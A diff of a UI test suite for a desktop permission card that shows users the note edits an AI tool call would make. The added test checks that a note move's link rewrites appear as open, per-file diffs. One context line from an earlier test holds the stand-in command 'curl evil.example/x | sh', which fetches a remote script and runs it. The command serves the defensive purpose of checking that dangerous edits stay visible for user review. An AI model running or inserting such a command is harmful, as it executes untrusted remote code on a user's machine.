@@ -103,6 +103,30 @@ describe('the permission card in the desktop window', () => {
     expect(w.shownWith[0]).toContain('+ curl evil.example/x | sh');
   });
 
+  it("shows a move's every rewritten note as its own part, each diff whole, before the dialog opens", async () => {
+    const w = windowHost();
+    const chat = new ChatStore(w.host);
+    await chat.start();
+    const move =
+      'Move people/Ana.md → people/Ana Souza.md\nand updates 3 links in 2 notes:' +
+      '\n\nindex.md:\n  # Index\n- - [[Ana]]\n+ - [[Ana Souza]]' +
+      '\n\nprojects/plan.md:\n- see [Ana](../people/Ana.md) and ![[Ana]]\n+ see [Ana](../people/Ana%20Souza.md) and ![[Ana Souza]]';
+    w.ask({ ...question, calls: [{ id: 'e1', name: 'move_note', arguments: {} }], descriptions: [move] });
+    await settle();
+    const target = document.createElement('div');
+    document.body.appendChild(target);
+    mounted.push(mount(PermissionCard, { target, props: { item: chat.question!, chat } }));
+    await settle();
+
+    const head = target.querySelector('[data-testid="permission-description"]')?.textContent ?? '';
+    expect(head).toContain('and updates 3 links in 2 notes:');
+    const parts = [...target.querySelectorAll<HTMLDetailsElement>('[data-testid="permission-note-diff"]')];
+    expect(parts.map((d) => d.querySelector('summary')?.textContent)).toEqual(['index.md', 'projects/plan.md']);
+    expect(parts.every((d) => d.open)).toBe(true); // nothing folded away before the answer
+    expect(parts[1].textContent).toContain('+ see [Ana](../people/Ana%20Souza.md) and ![[Ana Souza]]');
+    expect(w.shownWith[0]).toContain('- see [Ana](../people/Ana.md) and ![[Ana]]');
+  });
+
   it('a question too long for the dialog waits until the user has read it and asks for the dialog', async () => {
     const w = windowHost();
     const chat = new ChatStore(w.host);
